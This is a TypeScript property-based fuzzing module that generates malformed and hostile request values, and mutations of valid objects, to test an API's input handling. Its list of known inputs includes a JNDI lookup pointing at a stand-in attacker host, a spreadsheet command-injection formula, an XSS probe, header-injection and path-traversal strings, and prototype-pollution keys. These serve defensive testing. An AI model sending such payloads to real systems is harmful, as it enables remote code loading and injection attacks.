/** Values that no well-meaning client sends, and edits that put them anywhere in something valid. */
import fc from "fast-check";
import { canary } from "../../support/canary.ts";

const nested = (depth: number): unknown => {
  let value: unknown = [];
  for (let level = 0; level < depth; level++) value = level % 2 === 0 ? [value] : { a: value };
  return value;
};

const known: string[] = [
  "",
  " ",
  "\n",
  'x\n{"kind":"audit","code":"ok"}',
  "x\r\nSet-Cookie: a=b",
  "\u001b[2J\u001b]0;owned\u0007",
  "\u0000",
  "\u0085\u009b31m",
  "\u2028",
  "line\u2028break",
  "\u202egnp.exe",
  "\ufeffsales",
  "\ud800",
  "sаles",
  "../sales",
  "%73ales",
  "sales#0",
  "*",
  "__proto__",
  "constructor",
  "prototype",
  "toString",
  "hasOwnProperty",
  "[object Object]",
  "null",
  "true",
  "false",
  "-1",
  "1e999",
  "NaN",
  `\${jndi:ldap://evil.example.com/a}`,
  "=cmd|'/c calc'!A1",
  "<script>alert(1)</script>",
  "a".repeat(64),
  "=".repeat(4_096),
  "a".repeat(100_000),
  // Right ones, in the wrong place.
  "sales",
  "people",
  "POST",
  "/scopes/{scope}/token",
  "arn:aws:sts::111122223333:assumed-role/report-service/local",
  "arn:aws:sts::111122223333:assumed-role/oncall/local",
  "arn:aws:iam::111122223333:user/alice",
  "arn:aws:iam::111122223333:role/report-service",
  "arn:aws:iam::111122223333:root",
  "AROAREPORTSERVICE000:local",
  "111122223333",
  "a0-0000000000002",
  "clientOne",
  "2023-11-14T12:00:00Z",
  "275760-09-13T00:00:00Z",
  "0000-01-01T00:00:00+99:99",
];

/** What an editor of rows may write; the secrets that must not show are not known there. */
export const rowText = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...known) },
  fc.string({ unit: "binary", maxLength: 200 }),
  fc.string({ maxLength: 80 }),
);

/** A client may also send, where it should not, what must come back nowhere. */
export const text = fc.oneof(
  { weight: 12, arbitrary: rowText },
  fc.constantFrom(canary.token, canary.clientSecret),
);

export const number = fc.oneof(
  fc.constantFrom(0, -0, -1, 1.5, 2 ** 31, 2 ** 53 - 1, 2 ** 53, -(2 ** 53), 9e15, 1e308, 5e-324),
  // JSON.parse makes this of 1e999.
  fc.constant(Number.POSITIVE_INFINITY),
  fc.integer(),
  fc.double({ noNaN: true }),
);

const deep = [100, 10_000, 200_000].map(nested);

/** Whatever JSON.parse can give. */
export const value: fc.Arbitrary<unknown> = fc.letrec<{ any: unknown; list: unknown; map: unknown }>(
  (tie) => ({
    any: fc.oneof(
      { depthSize: "small", withCrossShrink: true },
      fc.constantFrom<unknown>(null, true, false),
      { weight: 3, arbitrary: text },
      number,
      fc.constantFrom(...deep),
      tie("list"),
      tie("map"),
    ),
    list: fc.array(tie("any"), { maxLength: 4 }),
    map: fc.dictionary(text, tie("any"), { maxKeys: 4, noNullPrototype: true }),
  }),
).any;

export interface Change {
  /** Which place, of as many as there are. */
  readonly at: number;
  readonly how: "replace" | "remove" | "add" | "list";
  readonly key: string;
  readonly value: unknown;
}

export const changesWith = (values: fc.Arbitrary<unknown>): fc.Arbitrary<Change[]> =>
  fc.array(
    fc.record({
      at: fc.nat(10_000),
      how: fc.constantFrom<Change["how"]>("replace", "replace", "replace", "remove", "add", "list"),
      key: text,
      value: values,
    }),
    { maxLength: 4 },
  );

type Node = Record<string, unknown>;
const isNode = (found: unknown): found is Node =>
  typeof found === "object" && found !== null && !(found instanceof Uint8Array);

/** A copy of `valid` with the changes made; the keys of `kept` stay as they are. */
export function changed(valid: object, changes: readonly Change[], kept: readonly string[] = []): unknown {
  const copy = structuredClone(valid) as Node;
  const places = placesIn(copy).filter(([parent, key]) => parent !== copy || !kept.includes(key));
  for (const { at, how, key: added, value: put } of changes) {
    const place = places[at % places.length];
    if (!place) continue;
    const [parent, key] = place;
    const old = parent[key];
    if (how === "remove") remove(parent, key);
    else if (how === "add" && !kept.includes(added)) define(isNode(old) ? old : parent, added, put);
    else define(parent, key, how === "list" ? [old, old] : put);
  }
  return copy;
}

function placesIn(node: Node): [parent: Node, key: string][] {
  return Object.entries(node).flatMap(([key, below]) => [
    [node, key],
    ...(isNode(below) ? placesIn(below) : []),
  ]);
}

/** From a list without leaving a hole: neither JSON nor DynamoDB has any. */
function remove(parent: Node, key: string): void {
  if (Array.isArray(parent)) parent.splice(Number(key), 1);
  else Reflect.deleteProperty(parent, key);
}

/** As JSON.parse does it: `__proto__` is a key like any other. A list takes what is added at its end. */
function define(target: Node, key: string, put: unknown): void {
  if (Array.isArray(target) && !Object.keys(target).includes(key)) target.push(put);
  else
    Object.defineProperty(target, key, { value: put, enumerable: true, configurable: true, writable: true });
}
